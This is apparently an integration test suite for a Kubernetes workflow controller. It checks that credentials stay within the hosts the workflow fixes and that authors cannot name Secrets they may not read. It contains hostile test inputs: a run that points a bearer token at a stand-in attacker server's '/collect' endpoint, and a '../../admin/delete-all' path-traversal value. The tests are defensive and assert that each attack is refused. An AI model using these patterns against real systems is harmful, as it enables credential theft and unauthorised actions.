"""Attacks on credentials: they go only where the workflow says, and only a reader of a Secret may name it.

The attackers: alice, a workflow author who may not read Secret `prod-api`;
carol, a runner who supplies a run's params. Each attack goes through the API
server as that user; the safe outcome is a refusal that says why, or a run
that fails with a message naming the field, with no credential reaching a
host the workflow did not fix.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from tests.integration.support import (
    TEST_SERVER_ADDRESS,
    TEST_SERVER_ALIAS,
    ScriptedServer,
    apply,
    create,
    get,
    list_objects,
    step_policy,
    step_status,
    wait_for_phase,
)

from towline_dev.controlplane import ControlPlane
from towline_dev.install import OperatorProcess

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("test_hosts")]

TOKEN = "tok-5ad1c3e8b7f24690a1b2c3d4e5f60718"


def workflow(namespace: str, name: str, step: dict[str, Any], params: tuple[str, ...] = ()) -> dict[str, Any]:
    return {
        "apiVersion": "towline.dev/v1alpha1", "kind": "Workflow",
        "metadata": {"name": name, "namespace": namespace},
        "spec": {"params": [{"name": p} for p in params], "steps": [{"id": "call", **step}]},
    }


def start_run_with(cluster: ControlPlane, namespace: str, workflow_name: str, name: str,
                   params: dict[str, Any], user: str = "carol") -> None:
    create(cluster, {
        "apiVersion": "towline.dev/v1alpha1", "kind": "WorkflowRun",
        "metadata": {"name": name, "namespace": namespace},
        "spec": {"workflowRef": {"name": workflow_name}, "requestedBy": user, "params": params},
    }, user=user)


def call_jobs(cluster: ControlPlane, namespace: str, run: str) -> list[dict[str, Any]]:
    return list_objects(cluster, "jobs", namespace, f"towline.dev/run={run},towline.dev/step=call")


def author_role(cluster: ControlPlane, namespace: str, user: str) -> None:
    """May create and update Workflows in the namespace; nothing about Secrets."""
    apply(cluster, {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
        "metadata": {"name": "workflow-author", "namespace": namespace},
        "rules": [{"apiGroups": ["towline.dev"], "resources": ["workflows"],
                   "verbs": ["get", "list", "create", "update", "patch"]}],
    })
    apply(cluster, {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": {"name": f"workflow-author-{user}", "namespace": namespace},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "workflow-author"},
        "subjects": [{"kind": "User", "name": user, "apiGroup": "rbac.authorization.k8s.io"}],
    })


def test_an_author_cannot_name_a_secret_they_cannot_read(
    towline_installed: ControlPlane, team_namespace: str
) -> None:
    cluster, ns = towline_installed, team_namespace
    cluster.kubectl("create", "secret", "generic", "prod-api", "-n", ns, f"--from-literal=token={TOKEN}")
    author_role(cluster, ns, "alice")
    step = {"action": "http.request", "credentials": {"api": "prod-api"},
            "with": {"url": "https://api.example.com/", "auth": {"bearer": {"credential": "api", "key": "token"}}}}
    refused = apply(cluster, workflow(ns, "steal", step), user="alice", check=False)
    assert refused.returncode != 0
    assert "alice may not get Secret prod-api in namespace" in refused.stderr
    assert "trustedWorkflowAuthors" in refused.stderr
    assert get(cluster, "workflows.towline.dev", "steal", ns) is None

    finally_step = {"apiVersion": "towline.dev/v1alpha1", "kind": "Workflow",
                    "metadata": {"name": "steal-finally", "namespace": ns},
                    "spec": {"steps": [{"id": "noop", "action": "data.transform", "with": {"data": {}}}],
                             "finally": [{"id": "leak", **step}]}}
    refused = apply(cluster, finally_step, user="alice", check=False)
    assert refused.returncode != 0 and "may not get Secret prod-api" in refused.stderr

    # Once alice may read the Secret, the same Workflow is accepted.
    apply(cluster, {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
        "metadata": {"name": "read-prod-api", "namespace": ns},
        "rules": [{"apiGroups": [""], "resources": ["secrets"], "resourceNames": ["prod-api"], "verbs": ["get"]}],
    })
    apply(cluster, {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": {"name": "read-prod-api-alice", "namespace": ns},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "read-prod-api"},
        "subjects": [{"kind": "User", "name": "alice", "apiGroup": "rbac.authorization.k8s.io"}],
    })
    accepted = apply(cluster, workflow(ns, "steal", step), user="alice", check=False)
    assert accepted.returncode == 0, accepted.stderr


def test_an_author_cannot_name_a_webhook_signing_secret_they_cannot_read(
    towline_installed: ControlPlane, team_namespace: str
) -> None:
    cluster, ns = towline_installed, team_namespace
    author_role(cluster, ns, "alice")
    manifest = workflow(ns, "hook", {"action": "data.transform", "with": {"data": {}}})
    manifest["spec"]["triggers"] = [{"name": "push", "webhook": {
        "verify": {"scheme": "github", "secretRef": {"name": "github-signing", "key": "secret"}}}}]
    refused = apply(cluster, manifest, user="alice", check=False)
    assert refused.returncode != 0
    assert "alice may not get Secret github-signing" in refused.stderr


def test_a_runner_cannot_send_a_credential_to_a_host_of_their_choosing(
    towline_operator: OperatorProcess, towline_installed: ControlPlane, team_namespace: str
) -> None:
    cluster, ns = towline_installed, team_namespace
    cluster.kubectl("create", "secret", "generic", "crm-api", "-n", ns, f"--from-literal=token={TOKEN}")
    with ScriptedServer() as attacker:
        stolen = attacker.script("/collect", (200, {"thanks": True}, {}))
        step = {"action": "http.request", "credentials": {"crm": "crm-api"},
                "with": {"url": "http://${{ params.host }}/collect",
                         "auth": {"bearer": {"credential": "crm", "key": "token"}}}}
        apply(cluster, workflow(ns, "crm-sync", step, params=("host",)))
        host = attacker.url.removeprefix("http://")
        start_run_with(cluster, ns, "crm-sync", "exfil-run", {"host": host})
        run = wait_for_phase(cluster, ns, "exfil-run", {"Failed", "Succeeded"})
        assert run["status"]["phase"] == "Failed"
        assert "spec.steps[0].allowHosts" in run["status"]["message"]
        assert "mounts credentials (crm)" in run["status"]["message"]
        assert call_jobs(cluster, ns, "exfil-run") == [] and stolen.requests == []


def test_allow_hosts_keeps_a_credential_off_every_other_host(
    towline_operator: OperatorProcess, towline_installed: ControlPlane, team_namespace: str
) -> None:
    cluster, ns = towline_installed, team_namespace
    cluster.kubectl("create", "secret", "generic", "crm-api", "-n", ns, f"--from-literal=token={TOKEN}")
    with ScriptedServer() as api:
        calls = api.script("/collect", (200, {"ok": True}, {}))
        port = api.url.rsplit(":", 1)[1]
        step = {"action": "http.request", "credentials": {"crm": "crm-api"},
                "allowHosts": [TEST_SERVER_ADDRESS],
                "retry": {"limit": 0},
                "with": {"url": f"http://${{{{ params.host }}}}:{port}/collect",
                         "auth": {"bearer": {"credential": "crm", "key": "token"}}}}
        apply(cluster, workflow(ns, "pinned", step, params=("host",)))
        # Another host, where the same server would answer: only allowHosts keeps the token off it.
        start_run_with(cluster, ns, "pinned", "pinned-evil", {"host": TEST_SERVER_ALIAS})
        run = wait_for_phase(cluster, ns, "pinned-evil", {"Failed", "Succeeded"})
        assert run["status"]["phase"] == "Failed"
        assert f"not in this step's allowHosts ({TEST_SERVER_ADDRESS})" in step_status(run, "call")["message"]
        assert calls.requests == []
        job = call_jobs(cluster, ns, "pinned-evil")[0]
        env = {e["name"]: e.get("value") for e in job["spec"]["template"]["spec"]["containers"][0]["env"]}
        assert json.loads(env["TOWLINE_NETWORK"])["allowHosts"] == [TEST_SERVER_ADDRESS]
        policy = step_policy(cluster, job["metadata"]["name"], ns)
        assert policy is not None
        assert policy["metadata"]["annotations"]["towline.dev/allow-hosts"] == TEST_SERVER_ADDRESS

        start_run_with(cluster, ns, "pinned", "pinned-good", {"host": TEST_SERVER_ADDRESS})
        good = wait_for_phase(cluster, ns, "pinned-good", {"Failed", "Succeeded"})
        assert good["status"]["phase"] == "Succeeded", good["status"]
        assert [r["headers"]["Authorization"] for r in calls.requests] == [f"Bearer {TOKEN}"]


def test_a_runner_cannot_climb_out_of_the_url_path_with_a_bound_value(
    towline_operator: OperatorProcess, towline_installed: ControlPlane, team_namespace: str
) -> None:
    cluster, ns = towline_installed, team_namespace
    cluster.kubectl("create", "secret", "generic", "crm-api", "-n", ns, f"--from-literal=token={TOKEN}")
    with ScriptedServer() as api:
        admin = api.script("/admin/delete-all", (200, {"deleted": True}, {}))
        api.script("/api/items/..%2F..%2Fadmin%2Fdelete-all", (404, {"error": "no such item"}, {}))
        step = {"action": "http.request", "credentials": {"crm": "crm-api"}, "retry": {"limit": 0},
                "with": {"url": f"{api.url}/api/items/${{{{ params.id }}}}",
                         "auth": {"bearer": {"credential": "crm", "key": "token"}}}}
        apply(cluster, workflow(ns, "items", step, params=("id",)))
        start_run_with(cluster, ns, "items", "climb-run", {"id": "../../admin/delete-all"})
        run = wait_for_phase(cluster, ns, "climb-run", {"Failed", "Succeeded"})
        assert admin.requests == [], "the bound value left the intended path"
        assert run["status"]["phase"] == "Failed" and "404" in step_status(run, "call")["message"]

        start_run_with(cluster, ns, "items", "dots-run", {"id": ".."})
        dots = wait_for_phase(cluster, ns, "dots-run", {"Failed", "Succeeded"})
        assert dots["status"]["phase"] == "Failed"
        assert "would leave the intended path" in step_status(dots, "call")["message"]
        assert call_jobs(cluster, ns, "dots-run") == [] and admin.requests == []


def test_a_secret_straddling_the_error_snippet_cut_leaves_no_prefix_behind(
    towline_operator: OperatorProcess, towline_installed: ControlPlane, team_namespace: str
) -> None:
    cluster, ns = towline_installed, team_namespace
    cluster.kubectl("create", "secret", "generic", "echo-api", "-n", ns, f"--from-literal=token={TOKEN}")
    with ScriptedServer() as api:
        # The provider echoes the token in its error body, placed so the 300-character snippet cuts it.
        api.script("/echo", (400, {"error": "x" * 280 + TOKEN + " was rejected"}, {}))
        step = {"action": "http.request", "credentials": {"api": "echo-api"}, "retry": {"limit": 0},
                "with": {"url": f"{api.url}/echo", "auth": {"bearer": {"credential": "api", "key": "token"}}}}
        apply(cluster, workflow(ns, "echo", step))
        start_run_with(cluster, ns, "echo", "echo-run", {})
        run = wait_for_phase(cluster, ns, "echo-run", {"Failed", "Succeeded"})
    message = step_status(run, "call")["message"]
    assert "[REDA" in message, message
    prefix = TOKEN[:8]
    events = cluster.kubectl("get", "events", "-n", ns, "-o", "json").stdout
    assert prefix not in json.dumps(run) and prefix not in events


def test_each_named_secret_is_checked_up_to_the_chart_limit(
    towline_installed: ControlPlane, team_namespace: str
) -> None:
    cluster, ns = towline_installed, team_namespace
    author_role(cluster, ns, "alice")
    names = [f"api-{index}" for index in range(21)]
    apply(cluster, {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
        "metadata": {"name": "read-some", "namespace": ns},
        "rules": [{"apiGroups": [""], "resources": ["secrets"], "resourceNames": names[:20], "verbs": ["get"]}],
    })
    apply(cluster, {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": {"name": "read-some-alice", "namespace": ns},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "read-some"},
        "subjects": [{"kind": "User", "name": "alice", "apiGroup": "rbac.authorization.k8s.io"}],
    })

    def many(count: int, last: str | None = None) -> dict[str, Any]:
        secrets = names[:count] if last is None else [*names[: count - 1], last]
        steps = [{"id": f"call_{i}", "action": "http.request", "credentials": {"api": name},
                  "with": {"url": "https://api.example.com/"}} for i, name in enumerate(secrets)]
        return {"apiVersion": "towline.dev/v1alpha1", "kind": "Workflow",
                "metadata": {"name": f"many-{count}", "namespace": ns}, "spec": {"steps": steps}}

    accepted = apply(cluster, many(20), user="alice", check=False)
    assert accepted.returncode == 0, accepted.stderr
    sneaky = apply(cluster, many(20, last="prod-db"), user="alice", check=False)
    assert sneaky.returncode != 0 and "alice may not get Secret prod-db" in sneaky.stderr
    too_many = apply(cluster, many(21), user="alice", check=False)
    assert too_many.returncode != 0 and "names 21 distinct Secrets" in too_many.stderr
